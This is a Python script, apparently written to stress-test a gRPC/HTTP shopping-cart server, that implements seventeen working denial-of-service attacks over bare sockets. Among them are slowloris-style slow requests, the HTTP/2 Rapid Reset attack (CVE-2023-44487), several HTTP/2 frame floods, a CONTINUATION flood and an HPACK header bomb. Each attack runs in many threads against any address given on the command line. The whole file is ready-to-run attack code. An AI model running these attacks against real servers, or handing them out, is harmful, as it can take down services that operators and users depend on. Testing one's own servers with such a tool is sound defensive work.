"""A client that means harm, made of bare sockets.

usage: hostile.py ADDRESS ATTACK SECONDS

Attacks for so long and prints, as JSON, how many connections it opened, how many of them the server closed or
answered with an end of its own, and how much it sent. `hostile.py list` prints the names of the attacks.
"""

import json
import random
import socket
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0, 1, 2, 3, 4, 6, 7, 8, 9)
END_STREAM, END_HEADERS, ACK = 1, 4, 1
CART = "/com.example.shoppingcart.ShoppingCart/GetCart"
# GetShoppingCart with user_id "mallory", framed.
QUESTION = b"\0\0\0\0\x09\x0a\x07mallory"


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack("!I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(
        "!I", stream) + payload


def integer(value, prefix_bits, first):
    """An integer of HPACK (RFC 7541, 5.1)."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out, value = bytearray([first | limit]), value - limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes(out) + bytes([value])


def literal(name, value, first=0x00):
    """A header field without indexing, or with 0x40 one that is remembered."""
    name, value = name.encode(), value.encode()
    return bytes([first]) + integer(len(name), 7, 0) + name + integer(len(value), 7, 0) + value


def request_block(path=CART, more=b""):
    return b"".join([
        literal(":method", "POST"), literal(":scheme", "http"), literal(":path", path),
        literal(":authority", "x"), literal("content-type", "application/grpc"),
        literal("te", "trailers")]) + more


BLOCK = request_block()


class Tally:
    def __init__(self):
        self.lock = threading.Lock()
        self.connections = self.ended = self.refused = self.bytes = 0

    def add(self, **counts):
        with self.lock:
            for name, count in counts.items():
                setattr(self, name, getattr(self, name) + count)


class Attacker:
    """One thread with one connection after the other."""

    def __init__(self, address, until, tally):
        host, port = address.rsplit(":", 1)
        self.address, self.until, self.tally = (host, int(port)), until, tally
        self.socket = None

    def going(self):
        return time.monotonic() < self.until

    def connect(self, hello=b""):
        self.close()
        self.socket = socket.create_connection(self.address, timeout=5)
        self.socket.settimeout(0.2)
        self.tally.add(connections=1)
        if hello:
            self.send(hello)

    def connect_http2(self, *settings):
        payload = b"".join(struct.pack("!HI", key, value) for key, value in settings)
        self.connect(PREFACE + frame(SETTINGS, payload=payload))

    def send(self, data):
        """Sends all of it, as long as the server takes something."""
        view = memoryview(data)
        while view and self.going():
            try:
                sent = self.socket.send(view)
            except socket.timeout:
                self.drain()
                continue
            self.tally.add(bytes=sent)
            view = view[sent:]

    def drain(self):
        """Reads what is there; raises when the server has ended the connection."""
        self.socket.setblocking(False)
        try:
            while True:
                if not self.socket.recv(65536):
                    raise ConnectionError("closed by the server")
        except (BlockingIOError, InterruptedError):
            pass
        finally:
            self.socket.settimeout(0.2)

    def close(self):
        if self.socket:
            self.socket.close()
            self.socket = None

    def again_and_again(self, attack):
        while self.going():
            try:
                attack(self)
            except (ConnectionError, BrokenPipeError):
                self.tally.add(ended=1)
            except (OSError, socket.timeout):
                self.tally.add(refused=1)
                time.sleep(0.01)
        self.close()


def streams():
    return range(1, 1 << 30, 2)


def slow_headers(a):
    a.connect(b"GET /carts/x HTTP/1.1\r\nhost: x\r\nx-slow: ")
    while a.going():
        a.send(b"a")
        a.drain()
        time.sleep(0.2)


def slow_body(a):
    a.connect(
        b"POST /cart/x/items/add HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n"
        b"content-length: 1000000\r\n\r\n")
    while a.going():
        a.send(b" ")
        a.drain()
        time.sleep(0.2)


def slow_message(a):
    a.connect_http2()
    a.send(frame(HEADERS, END_HEADERS, 1, BLOCK) + frame(DATA, 0, 1, b"\0\0\x0f\xff\xff"))
    while a.going():
        a.send(frame(DATA, 0, 1, b"\0"))
        a.drain()
        time.sleep(0.2)


def slow_reader(a):
    """Asks again and again and never reads an answer."""
    a.connect()
    while a.going():
        a.socket.settimeout(0.2)
        try:
            a.tally.add(bytes=a.socket.send(b"GET /carts/x HTTP/1.1\r\nhost: x\r\n\r\n" * 50))
        except socket.timeout:
            pass


def no_window(a):
    """Answers may never be sent."""
    a.connect_http2((4, 0))
    for stream in streams():
        a.send(
            frame(HEADERS, END_HEADERS, stream, BLOCK)
            + frame(DATA, END_STREAM, stream, QUESTION))
        a.drain()
        if not a.going():
            return


def rapid_reset(a):
    """CVE-2023-44487."""
    a.connect_http2()
    batch = []
    for stream in streams():
        batch.append(
            frame(HEADERS, END_HEADERS, stream, BLOCK)
            + frame(DATA, END_STREAM, stream, QUESTION)
            + frame(RST_STREAM, 0, stream, struct.pack("!I", 8)))
        if len(batch) == 50:
            a.send(b"".join(batch))
            batch = []
            a.drain()
            if not a.going():
                return


def flood(*frames):
    def attack(a):
        a.connect_http2()
        batch = b"".join(frames) * 200
        while a.going():
            a.send(batch)
            a.drain()
    return attack


def empty_data(a):
    a.connect_http2()
    a.send(frame(HEADERS, END_HEADERS, 1, BLOCK))
    while a.going():
        a.send(frame(DATA, 0, 1) * 200)
        a.drain()


def continuation_flood(a):
    a.connect_http2()
    a.send(frame(HEADERS, 0, 1, BLOCK))
    piece = frame(CONTINUATION, 0, 1, literal("x-more", "y" * 8000))
    while a.going():
        a.send(piece * 10)
        a.drain()


def header_bomb(a):
    """A small block that stands for a large list: one remembered field, named again and again."""
    a.connect_http2()
    a.send(frame(HEADERS, END_HEADERS | END_STREAM, 1,
                 request_block(more=literal("x-bomb", "z" * 3000, 0x40))))
    for stream in range(3, 1 << 30, 2):
        a.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, BLOCK + b"\xbe" * 10_000))
        a.drain()
        if not a.going():
            return


def large_headers(a):
    a.connect(b"GET /carts/x HTTP/1.1\r\nhost: x\r\n")
    while a.going():
        a.send(b"x-large: " + b"v" * 100_000 + b"\r\n")
        a.drain()


def connection_flood(a):
    a.connect()
    a.close()


def garbage(a):
    a.connect(random.randbytes(random.choice([1, 10, 1000, 100_000])))
    a.drain()


def garbage_frames(a):
    a.connect_http2()
    for _ in range(20):
        a.send(frame(
            random.randrange(12), random.randrange(256), random.choice([0, 1, 1, 3, 2, 1 << 30]),
            random.randbytes(random.choice([0, 4, 5, 8, 100]))))
    a.drain()


# Each with the number of connections at a time.
ATTACKS = {
    "slow-headers": (slow_headers, 200),
    "slow-body": (slow_body, 200),
    "slow-message": (slow_message, 100),
    "slow-reader": (slow_reader, 20),
    "no-window": (no_window, 4),
    "rapid-reset": (rapid_reset, 4),
    "ping-flood": (flood(frame(PING, payload=b"12345678")), 2),
    "settings-flood": (flood(frame(SETTINGS, payload=struct.pack("!HI", 4, 65535))), 2),
    "priority-flood": (flood(frame(PRIORITY, 0, 1, b"\0\0\0\0\1")), 2),
    "window-flood": (flood(frame(WINDOW_UPDATE, payload=struct.pack("!I", 1))), 2),
    "empty-data": (empty_data, 2),
    "continuation-flood": (continuation_flood, 4),
    "header-bomb": (header_bomb, 4),
    "large-headers": (large_headers, 20),
    "connection-flood": (connection_flood, 4),
    "garbage": (garbage, 4),
    "garbage-frames": (garbage_frames, 4),
}


def main():
    if sys.argv[1:] == ["list"]:
        print("\n".join(ATTACKS))
        return
    address, name, seconds = sys.argv[1:]
    attack, count = ATTACKS[name]
    tally, until = Tally(), time.monotonic() + float(seconds)
    threads = [
        threading.Thread(
            target=Attacker(address, until, tally).again_and_again, args=(attack,), daemon=True)
        for _ in range(count)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(float(seconds) + 30)
    print(json.dumps({
        "attack": name, "connections": tally.connections, "endedByServer": tally.ended,
        "refused": tally.refused, "bytes": tally.bytes}))


main()
